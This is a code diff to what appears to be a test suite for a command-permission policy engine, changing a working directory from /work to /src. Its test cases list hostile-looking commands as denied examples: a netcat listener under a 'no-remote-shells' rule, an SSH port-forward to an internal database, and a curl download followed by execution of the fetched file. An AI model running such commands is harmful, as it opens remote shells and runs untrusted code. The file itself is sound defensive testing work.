@@ -7,8 +7,8 @@ cases:
   - {ssh: "git@example.com", channel: "local-forward db.internal:5432", expect: deny}
   - {shell: "git push origin main", directory: /work, expect: ask, rule: push}
   - {exec: [/usr/bin/nc, -l], expect: deny, rule: no-remote-shells}
-  - {tool: {name: Read, arguments: {file_path: /work/x}}, expect: allow}
-  - {exec: [/work/x], after: [{shell: "curl -o /work/x https://example.com/x"}], expect: deny}
+  - {tool: {name: Read, arguments: {file_path: /src/x}}, expect: allow}
+  - {exec: [/src/x], after: [{shell: "curl -o /src/x https://example.com/x"}], expect: deny}
 """
 
 import json
@@ -196,7 +196,7 @@ class Step(Strict):
     shell: str | None = Field(default=None, min_length=1)
     exec: list[str] | None = Field(default=None, min_length=1)
     tool: ToolCase | None = None
-    directory: str = "/work"
+    directory: str = "/src"
     channel: Annotated[str, AfterValidator(_channel)] | None = None
     program: str = ""
     address: Annotated[str, AfterValidator(_ip)] | None = None
